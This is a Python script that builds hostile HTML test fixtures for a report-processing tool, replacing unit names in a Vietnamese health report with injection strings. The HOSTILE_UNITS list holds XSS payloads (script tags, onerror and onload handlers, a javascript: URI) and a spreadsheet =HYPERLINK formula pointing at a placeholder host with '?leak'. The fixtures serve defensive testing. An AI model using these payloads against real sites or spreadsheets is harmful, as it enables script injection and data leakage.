#!/usr/bin/python3
"""Makes fixtures/hostile/: reports whose text tries to act where sohoa shows
it (the review site, spreadsheets). Run with /usr/bin/python3 from anywhere;
the committed files are the reference.

Each report is fixtures/html/report.html with its six unit names replaced by
hostile strings (written as HTML text, so the reader sees the characters
< > " ' as they are), a paragraph of the same strings, and one figure changed
so that the checks find something in a hostile row (464 -> 470 for the
first unit: its row identity and the column total no longer hold).

  fixtures/hostile/xss_2022_11.html   the November report
  fixtures/hostile/xss_2022_12.html   the same for December (a series of two)

Hostile file names are made by the tests at run time (copies of these files
under names such as <img src=x onerror=...>.html), so that no such name is
ever checked in.
"""
import html
import os
import re

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
SRC = os.path.join(ROOT, "fixtures", "html", "report.html")
OUT = os.path.join(ROOT, "fixtures", "hostile")

# A script that runs sets the page title to PWNED: the tests look for it.
HOSTILE_UNITS = [
    "<script>document.title='PWNED'</script>",
    "<img src=x onerror=\"document.title='PWNED'\">",
    "javascript:document.title='PWNED'",
    "=HYPERLINK(\"http://example.invalid/?leak\",\"Sở Y tế\")",
    "\"><svg onload=document.title='PWNED'>",
    "</script><script>document.title='PWNED'</script>",
]


def hostile(month):
    text = open(SRC, encoding="utf-8").read()
    rows = list(re.finditer(r"<tr><td>(\d)</td><td>(.*?)</td><td>\d", text, re.S))
    assert len(rows) == 6, len(rows)
    for m, unit in reversed(list(zip(rows, HOSTILE_UNITS))):
        text = text[:m.start(2)] + html.escape(unit, quote=False) + text[m.end(2):]
    first = "<td>" + html.escape(HOSTILE_UNITS[0], quote=False) + "</td><td>464</td>"
    assert first in text
    text = text.replace(first, first.replace("464", "470"))
    para = "<p>Đơn vị báo cáo: %s</p>\n" % html.escape(" ".join(HOSTILE_UNITS), quote=False)
    text = text.replace("<p>Ghi chú: số liệu", para + "<p>Ghi chú: số liệu", 1)
    if month != 11:
        text = text.replace("tháng 11", "tháng %d" % month).replace(
            "ngày 30 tháng %d" % month, "ngày 28 tháng %d" % month).replace(
            "THÁNG 11", "THÁNG %d" % month)
    return text


def main():
    os.makedirs(OUT, exist_ok=True)
    for month in (11, 12):
        with open(os.path.join(OUT, "xss_2022_%d.html" % month), "w", encoding="utf-8") as f:
            f.write(hostile(month))


if __name__ == "__main__":
    main()
